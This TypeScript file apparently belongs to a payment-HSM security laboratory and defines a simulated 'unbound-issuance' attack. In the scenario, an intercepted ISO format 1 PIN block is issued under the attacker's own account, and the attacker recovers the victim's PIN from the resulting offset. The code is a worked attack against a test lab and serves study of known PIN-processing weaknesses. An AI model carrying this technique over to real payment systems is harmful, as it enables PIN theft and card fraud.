/**
 * PIN blocks of format 1 say nothing of an account. An intercepted one is issued as the attacker's own
 * PIN, and the offset for the own account, whose natural PIN the attacker knows, tells it.
 */
import { attack } from '../attack.js';
import { addDigits, subtractDigits } from '../decimalisation-questions.js';
import { offsetIn, validationDataOf } from '../laboratory.js';

export const unboundIssuance = attack({
  name: 'unbound-issuance',
  title: "another customer's PIN block of format 1 is issued as the attacker's own PIN",
  source: 'Clulow 2003; PCI PIN Security Requirements, 3-3',
  roles: ['pinIssuance', 'production'],
  async run({ lab, attacker, say }) {
    const pvk = lab.key('P', { usage: 'PGK' });
    const key = lab.pinKey();
    const tableId = lab.table();
    const [victim, own] = [1, 2].map((n) => lab.customer(n, { pvk, tableId }));
    const { pan } = own!;
    const natural = subtractDigits(lab.exposePin(pan), own!.offset);
    const secret = lab.exposePin(victim!.pan);
    const format = 'iso1' as const;
    const pinBlock = lab.typed({ pin: secret, pan: victim!.pan, key, format });
    say('intercepted a PIN block of format 1');
    const asked = { pinBlock, key, format, pan, pvk };
    const offset = await attacker.firstOf([
      async () => {
        const validationData = validationDataOf(pan);
        const made = await attacker.call('CalculateOffset', {
          ...asked,
          validationData,
          table: tableId,
        });
        say('CalculateOffset of it for the own account');
        return made.offset;
      },
      async () => {
        const method = 'ibm3624' as const;
        const made = await attacker.call('CreateVerificationRecord', { ...asked, method, tableId });
        say('CreateVerificationRecord of it for the own account');
        return offsetIn(made.record) ?? attacker.nothingLearnt();
      },
    ]);
    const pin = addDigits(natural, offset);
    return { obtained: `the PIN ${pin}`, verified: pin === secret };
  },
});
